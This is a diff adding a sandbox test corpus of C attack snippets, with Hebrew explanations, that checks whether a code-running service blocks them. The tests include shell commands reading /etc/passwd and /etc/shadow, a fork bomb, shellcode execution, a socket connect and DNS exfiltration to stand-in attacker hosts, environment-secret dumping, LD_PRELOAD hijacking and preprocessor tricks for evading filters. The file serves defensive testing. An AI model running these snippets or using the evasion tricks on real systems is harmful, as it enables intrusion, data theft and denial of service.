@@ -0,0 +1,746 @@
+/**
+ * C Security Attack Vectors
+ *
+ * A C program can reach the kernel with nothing but a function name:
+ * a prototype written by hand is as good as a header, so the policy
+ * matches the functions - system, exec, fork, fopen, socket, getenv -
+ * rather than the #include lines. The preprocessor can then rebuild a
+ * refused name out of harmless pieces, or make gcc quote a file back in
+ * an error, so the corpus carries those tricks too.
+ *
+ * Each test includes:
+ * - name: Test identifier
+ * - code: The malicious code attempt
+ * - expectBlocked: Whether this should be blocked (true) or allowed (false)
+ * - category: Attack category for grouping
+ * - explanation: Human-readable description of how hackers use this attack
+ */
+
+export const cTests = [
+  // ════════════════════════════════════════════════════════════════
+  // COMMAND / PROCESS EXECUTION
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: system shell command',
+    code: `#include <stdio.h>
+#include <stdlib.h>
+
+int main(void) {
+    system("id; cat /etc/passwd");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: הרצת פקודות Shell
+
+      איך תוקפים משתמשים בזה:
+      system()‎ מעביר מחרוזת ל-‎/bin/sh‎. כל פקודת shell
+      שהיא מתארת רצה עם ההרשאות של השירות.
+
+      השפעה בעולם האמיתי:
+      - Reverse shells ותנועה רוחבית ברשת
+      - קריאת סודות כמו מפתחות SSH וטוקנים
+      - התקנת כורים או דלתות אחוריות בשרת
+    `,
+  },
+  {
+    name: 'C: popen reads command output',
+    code: `#include <stdio.h>
+
+int main(void) {
+    char line[256];
+    FILE *p = popen("ls -la /", "r");
+    while (fgets(line, sizeof line, p)) fputs(line, stdout);
+    pclose(p);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: קליטת פלט של פקודה
+
+      איך תוקפים משתמשים בזה:
+      popen()‎ מפעיל פקודת shell ומחזיר את הפלט שלה כ-FILE,
+      כך שהתוקף יכול לקרוא את התוצאה שורה אחר שורה ולהדפיס
+      אותה דרך הפלט של התוכנית עצמה.
+    `,
+  },
+  {
+    name: 'C: execve replaces the program',
+    code: `#include <unistd.h>
+
+int main(void) {
+    char *argv[] = { "/bin/sh", "-c", "whoami", NULL };
+    execve("/bin/sh", argv, NULL);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: החלפת התהליך
+
+      איך תוקפים משתמשים בזה:
+      משפחת exec מחליפה את התוכנית שרצה בתוכנית אחרת - כאן
+      shell. לא נשאר כלום מהתוכנית של התלמיד, וה-shell יורש
+      את המקום שלה בארגז החול.
+    `,
+  },
+  {
+    name: 'C: fork bomb',
+    code: `#include <unistd.h>
+
+int main(void) {
+    while (1) fork();
+}`,
+    expectBlocked: true,
+    category: 'resource_exhaustion',
+    explanation: `
+      🎯 התקפה: פצצת fork
+
+      איך תוקפים משתמשים בזה:
+      כל תהליך משכפל את עצמו, וכל עותק משכפל את עצמו שוב.
+      טבלת התהליכים מתמלאת תוך שניות והמכונה מפסיקה לענות
+      לכולם.
+    `,
+  },
+  {
+    name: 'C: posix_spawn',
+    code: `#include <spawn.h>
+#include <stdio.h>
+
+extern char **environ;
+
+int main(void) {
+    pid_t pid;
+    char *argv[] = { "sh", "-c", "id", NULL };
+    posix_spawn(&pid, "/bin/sh", NULL, NULL, argv, environ);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: הפעלת תהליך בלי fork
+
+      איך תוקפים משתמשים בזה:
+      posix_spawn מפעיל תוכנית חדשה בקריאה אחת, בלי צמד
+      fork/exec שמסנן כנראה מחפש.
+    `,
+  },
+  {
+    name: 'C: system declared by hand',
+    code: `int system(const char *command);
+int puts(const char *s);
+
+int main(void) {
+    puts("starting");
+    return system("id");
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: קריאה בלי קובץ הכותרת
+
+      איך תוקפים משתמשים בזה:
+      C לא צריכה קובץ כותרת כדי לקרוא לפונקציה - הצהרה שנכתבה
+      ביד מספיקה, והמקשר מוצא את system()‎ האמיתית ב-libc. מדיניות
+      שחוסמת רק שורות ‎#include‎ מפספסת את זה לגמרי, ולכן
+      פונקציות מזוהות לפי השם.
+    `,
+  },
+  {
+    name: 'C: system through a function pointer',
+    code: `#include <stdlib.h>
+
+int main(void) {
+    int (*run)(const char *) = system;
+    run("cat /etc/shadow");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: עקיפה דרך מצביע לפונקציה
+
+      איך תוקפים משתמשים בזה:
+      הפונקציה המסוכנת נזכרת פעם אחת, כערך, ואז נקראת דרך מצביע
+      עם שם תמים. מסנן שמחפש "system(" לא רואה שום קריאה.
+    `,
+  },
+  {
+    name: 'C: system hidden behind a macro',
+    code: `#include <stdlib.h>
+
+#define RUN system
+
+int main(void) {
+    RUN ("id");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 התקפה: שינוי שם בעזרת מאקרו
+
+      איך תוקפים משתמשים בזה:
+      הקדם-מעבד מחליף את RUN ב-system לפני שהקומפיילר רואה את
+      הקוד. הקריאה בתוכנית אף פעם לא כותבת את השם ליד הסוגריים.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // RAW SYSTEM CALLS AND NATIVE CODE
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: raw syscall',
+    code: `#include <unistd.h>
+#include <sys/syscall.h>
+
+int main(void) {
+    char *argv[] = { "/bin/sh", NULL };
+    syscall(SYS_execve, "/bin/sh", argv, NULL);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: קריאת מערכת ישירה
+
+      איך תוקפים משתמשים בזה:
+      syscall()‎ מבקש מהקרנל כל דבר לפי מספר, ועוקף כל פונקציה
+      של libc שמדיניות יכולה לזהות לפי השם.
+    `,
+  },
+  {
+    name: 'C: inline assembly',
+    code: `int main(void) {
+    long ret;
+    __asm__ volatile ("mov $39, %%rax\\n\\tsyscall" : "=a"(ret));
+    return (int)ret;
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: אסמבלי בתוך הקוד
+
+      איך תוקפים משתמשים בזה:
+      asm מכניס פקודות מכונה ישר לתוכנית. פקודת syscall שנכתבה
+      כך מדברת עם הקרנל בלי שום קריאה לפונקציה בקוד המקור.
+    `,
+  },
+  {
+    name: 'C: dlsym looks up system at run time',
+    code: `#include <dlfcn.h>
+
+int main(void) {
+    void *libc = dlopen("libc.so.6", RTLD_NOW);
+    int (*run)(const char *) = dlsym(libc, "sys" "tem");
+    run("id");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: חיפוש סמל בזמן ריצה
+
+      איך תוקפים משתמשים בזה:
+      dlsym מוצא כל פונקציה בכל ספרייה טעונה לפי מחרוזת, ואפשר
+      להרכיב את המחרוזת מחלקים. שם הפונקציה לא מופיע בקוד.
+    `,
+  },
+  {
+    name: 'C: executable memory for shellcode',
+    code: `#include <string.h>
+#include <sys/mman.h>
+
+unsigned char code[] = { 0x48, 0x31, 0xc0, 0xc3 };
+
+int main(void) {
+    void *page = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    memcpy(page, code, sizeof code);
+    return ((int (*)(void))page)();
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: Shellcode בזיכרון בר-הרצה
+
+      איך תוקפים משתמשים בזה:
+      mmap עם PROT_EXEC (או mprotect על זיכרון קיים) הופך בתים
+      לברי-הרצה. התוקף מעתיק קוד מכונה פנימה כנתונים וקופץ
+      אליו - קוד שאף סורק של קוד המקור לא יכול לקרוא.
+    `,
+  },
+  {
+    name: 'C: ptrace another process',
+    code: `#include <sys/ptrace.h>
+
+int main(void) {
+    ptrace(PTRACE_ATTACH, 1, 0, 0);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 התקפה: מעקב אחרי תהליך
+
+      איך תוקפים משתמשים בזה:
+      ptrace מאפשר לתהליך אחד לקרוא ולשכתב את הזיכרון של תהליך
+      אחר. כשהוא מחובר לשכן, הוא יכול לגנוב סודות או להזריק קוד
+      לתוכנית שסמכו עליה.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // PREPROCESSOR TRICKS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: token pasting builds the name',
+    code: `#include <stdlib.h>
+
+#define JOIN(a, b) a ## b
+
+int main(void) {
+    JOIN(sys, tem)("id");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'obfuscation',
+    explanation: `
+      🎯 התקפה: הדבקת טוקנים
+
+      איך תוקפים משתמשים בזה:
+      האופרטור ## מדביק שני טוקנים לאחד בזמן עיבוד מקדים. "sys"
+      ו-"tem" תמימים לבד; הקומפיילר רואה רק system.
+    `,
+  },
+  {
+    name: 'C: backslash-newline inside a name',
+    code: `#include <stdlib.h>
+
+int main(void) {
+    sys\\
+tem("id");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'obfuscation',
+    explanation: `
+      🎯 התקפה: חיבור שורות
+
+      איך תוקפים משתמשים בזה:
+      לוכסן הפוך בסוף שורה מחבר אותה לשורה הבאה לפני כל דבר
+      אחר - אפילו באמצע מילה. בקוד רואים שני חלקים; הקומפיילר
+      קורא שם אחד.
+    `,
+  },
+  {
+    name: 'C: digraph spelling of #include',
+    code: `%:include <stdio.h>
+
+int main(void) {
+    puts("hi");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'obfuscation',
+    explanation: `
+      🎯 התקפה: דיגרפים
+
+      איך תוקפים משתמשים בזה:
+      C מקבלת את ‎%:‎ ככתיב אחר של #. כל כלל שנכתב נגד
+      ‎"#include"‎ או ‎"##"‎ עיוור ל-‎%:include‎ ול-‎%:%:‎.
+    `,
+  },
+  {
+    name: 'C: #include of a system file',
+    code: `#include "/etc/passwd"
+
+int main(void) {
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 התקפה: קריאת קובץ דרך הקומפיילר
+
+      איך תוקפים משתמשים בזה:
+      התוכנית בכלל לא רצה. gcc מנסה לקמפל את ‎/etc/passwd‎ כ-C,
+      נכשל, ומצטט את השורות הבעייתיות בהודעת השגיאה - שחוזרת
+      לתוקף כשגיאת קומפילציה.
+    `,
+  },
+  {
+    name: 'C: #include that climbs out of the project',
+    code: `#include "../../app/server/config.mjs"
+
+int main(void) {
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 התקפה: מעבר תיקיות ב-‎#include‎
+
+      איך תוקפים משתמשים בזה:
+      ‎".."‎ יוצא מתיקיית העבודה אל הקבצים של השירות עצמו. התוכן
+      שלהם חוזר מצוטט בשגיאות של gcc.
+    `,
+  },
+  {
+    name: 'C: #include of a macro',
+    code: `#define TARGET "/etc/shadow"
+#include TARGET
+
+int main(void) {
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 התקפה: ‎#include‎ מחושב
+
+      איך תוקפים משתמשים בזה:
+      ‎#include‎ יכול לציין מאקרו, והמאקרו מציין את הקובץ.
+      הנתיב לא מופיע בכלל בשורת ה-‎#include‎ עצמה.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // NETWORK ACCESS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: reverse shell over a socket',
+    code: `#include <arpa/inet.h>
+#include <sys/socket.h>
+
+int main(void) {
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(4444) };
+    inet_pton(AF_INET, "203.0.113.7", &a.sin_addr);
+    connect(s, (struct sockaddr *)&a, sizeof a);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'network_access',
+    explanation: `
+      🎯 התקפה: Reverse Shell
+
+      איך תוקפים משתמשים בזה:
+      התוכנית מתחברת החוצה למחשב של התוקף ומחברת את החיבור
+      ל-shell, וכך נותנת לו סשן אינטראקטיבי מתוך השירות.
+    `,
+  },
+  {
+    name: 'C: DNS lookup',
+    code: `#include <netdb.h>
+#include <stdio.h>
+
+int main(void) {
+    struct addrinfo *info;
+    getaddrinfo("secrets.attacker.example", "80", NULL, &info);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'network_access',
+    explanation: `
+      🎯 התקפה: הוצאת מידע דרך DNS
+
+      איך תוקפים משתמשים בזה:
+      חיפוש שם מוציא מידע בתוך השם עצמו
+      ‏(secret-value.attacker.example), גם במקום שחיבורים רגילים
+      חסומים.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // FILE SYSTEM ACCESS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: fopen a system file',
+    code: `#include <stdio.h>
+
+int main(void) {
+    char line[256];
+    FILE *f = fopen("/etc/passwd", "r");
+    while (fgets(line, sizeof line, f)) fputs(line, stdout);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 התקפה: קריאת קבצים מהשרת
+
+      איך תוקפים משתמשים בזה:
+      fopen קורא כל קובץ שהתהליך יכול לראות: רשימות משתמשים,
+      הגדרות, מפתחות, קוד המקור של השירות עצמו.
+    `,
+  },
+  {
+    name: 'C: freopen swaps stdin for a file',
+    code: `#include <stdio.h>
+
+int main(void) {
+    char line[256];
+    freopen("/proc/self/environ", "r", stdin);
+    while (fgets(line, sizeof line, stdin)) fputs(line, stdout);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 התקפה: הפניית הקלט הסטנדרטי
+
+      איך תוקפים משתמשים בזה:
+      freopen מפנה את stdin לקובץ, כך שקוד רגיל שקורא קלט מדפיס
+      את הקובץ. ‏‎/proc/self/environ‎ מכיל את משתני הסביבה של
+      התהליך.
+    `,
+  },
+  {
+    name: 'C: open and read with file descriptors',
+    code: `#include <fcntl.h>
+#include <unistd.h>
+
+int main(void) {
+    char buffer[4096];
+    int fd = open("/etc/hostname", O_RDONLY);
+    ssize_t n = read(fd, buffer, sizeof buffer);
+    write(1, buffer, n);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 התקפה: קבצים דרך POSIX
+
+      איך תוקפים משתמשים בזה:
+      open/read/write הם השכבה שמתחת ל-fopen. מדיניות שמכירה רק
+      את השמות של stdio מפספסת אותם.
+    `,
+  },
+  {
+    name: 'C: listing directories',
+    code: `#include <dirent.h>
+#include <stdio.h>
+
+int main(void) {
+    DIR *d = opendir("/");
+    struct dirent *e;
+    while ((e = readdir(d))) puts(e->d_name);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 התקפה: מיפוי תיקיות
+
+      איך תוקפים משתמשים בזה:
+      הצגת תוכן תיקיות ממפה את השרת: איפה השירות נמצא, מה עוד
+      מותקן, ואיפה יכולים להיות סודות.
+    `,
+  },
+  {
+    name: 'C: deleting files',
+    code: `#include <stdio.h>
+#include <unistd.h>
+
+int main(void) {
+    unlink("main.c");
+    remove("/tmp/other-job/main.c");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 התקפה: מחיקת קבצים
+
+      איך תוקפים משתמשים בזה:
+      unlink ו-remove מוחקים קבצים - ראיות, עבודות של משתמשים
+      אחרים, או קבצים שהשירות צריך כדי להמשיך לרוץ.
+    `,
+  },
+  {
+    name: 'C: symlink to a secret',
+    code: `#include <unistd.h>
+
+int main(void) {
+    symlink("/etc/shadow", "notes.txt");
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'file_access',
+    explanation: `
+      🎯 התקפה: שתילת קישור סימבולי
+
+      איך תוקפים משתמשים בזה:
+      קישור עם שם של קובץ רגיל מצביע על קובץ רגיש. כל דבר שיקרא
+      אחר כך את "notes.txt" - כולל השירות - יקרא את הסוד במקום.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // ENVIRONMENT ACCESS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: getenv reads secrets',
+    code: `#include <stdio.h>
+#include <stdlib.h>
+
+int main(void) {
+    printf("%s\\n", getenv("DATABASE_URL"));
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'environment_access',
+    explanation: `
+      🎯 התקפה: סודות בסביבה
+
+      איך תוקפים משתמשים בזה:
+      שירותים שומרים פרטי גישה במשתני סביבה. getenv קורא אותם
+      לפי השם.
+    `,
+  },
+  {
+    name: 'C: environ lists every variable',
+    code: `#include <stdio.h>
+
+extern char **environ;
+
+int main(void) {
+    for (char **e = environ; *e; e++) puts(*e);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'environment_access',
+    explanation: `
+      🎯 התקפה: שפיכת כל הסביבה
+
+      איך תוקפים משתמשים בזה:
+      environ הוא כל הסביבה כמערך - לא צריך שמות, כל סוד מודפס
+      בבת אחת.
+    `,
+  },
+  {
+    name: "C: main's third parameter",
+    code: `#include <stdio.h>
+
+int main(int argc, char **argv, char **envp) {
+    while (*envp) puts(*envp++);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'environment_access',
+    explanation: `
+      🎯 התקפה: הפרמטר envp
+
+      איך תוקפים משתמשים בזה:
+      ביוניקס main יכולה לקבל פרמטר שלישי: הסביבה. הוא מגיע לאותם
+      סודות כמו environ בלי לציין שום סמל של ספרייה.
+    `,
+  },
+  {
+    name: 'C: setenv LD_PRELOAD',
+    code: `#include <stdlib.h>
+
+int main(void) {
+    setenv("LD_PRELOAD", "./evil.so", 1);
+    return 0;
+}`,
+    expectBlocked: true,
+    category: 'environment_access',
+    explanation: `
+      🎯 התקפה: השתלטות על הטוען
+
+      איך תוקפים משתמשים בזה:
+      LD_PRELOAD גורם לכל תוכנית שתופעל אחר כך לטעון קודם את
+      הספרייה של התוקף. יחד עם כל דרך להפעיל תהליך, זה מריץ קוד
+      נייטיב שרירותי.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // SAFE CODE (Should NOT be blocked)
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'C: Safe print',
+    code: `#include <stdio.h>
+
+int main(void) {
+    printf("Hello, World!\\n");
+    return 0;
+}`,
+    expectBlocked: false,
+    expectedOutput: 'Hello, World!',
+    category: 'safe_code',
+    explanation: `
+      ✅ קוד בטוח: צריך לעבור
+
+      זה קוד לימודי רגיל, והוא חייב לרוץ.
+    `,
+  },
+  {
+    name: 'C: Safe arrays, structs and pointers',
+    code: `#include <stdio.h>
+#include <string.h>
+
+struct door { int open; char label[16]; };
+
+int main(void) {
+    struct door d = { .open = 1 };
+    struct door *p = &d;
+    strcpy(p->label, "front");
+    int open = p->open;
+    printf("%s %s\\n", d.label, open ? "open" : "closed");
+    return 0;
+}`,
+    expectBlocked: false,
+    expectedOutput: 'front open',
+    category: 'safe_code',
+    explanation: `
+      ✅ קוד בטוח: צריך לעבור
+
+      שדה של struct ומשתנה מקומי בשם open הם לא קריאת המערכת
+      open()‎. גישה לשדות ומשתנים רגילים נשארים מותרים.
+    `,
+  },
+  {
+    name: 'C: Safe math and memory',
+    code: `#include <math.h>
+#include <stdio.h>
+#include <stdlib.h>
+
+int main(void) {
+    int n = 5;
+    double *roots = malloc(n * sizeof *roots);
+    for (int i = 0; i < n; i++) roots[i] = sqrt(i);
+    printf("%.3f\\n", roots[4] + roots[1]);
+    free(roots);
+    return 0;
+}`,
+    expectBlocked: false,
+    expectedOutput: '3.000',
+    category: 'safe_code',
+    explanation: `
+      ✅ קוד בטוח: צריך לעבור
+
+      malloc, ‏free ו-‎<math.h>‎ הם הבסיס של קורס C.
+    `,
+  },
+  {
+    name: 'C: Safe multi-line macro',
+    code: `#include <stdio.h>
+
+#define SQUARE(x) ((x) * (x))
+#define SHOW(label, value) \\
+    printf("%s = %d\\n", label, value)
+
+int main(void) {
+    SHOW("nine", SQUARE(3));
+    return 0;
+}`,
+    expectBlocked: false,
+    expectedOutput: 'nine = 9',
+    category: 'safe_code',
+    explanation: `
+      ✅ קוד בטוח: צריך לעבור
+
+      מאקרו שממשיך עם לוכסן הפוך אחרי רווח הוא הדרך הרגילה לכתוב
+      מאקרו ארוך; רק לוכסן הפוך בתוך מילה נחסם.
+    `,
+  },
+];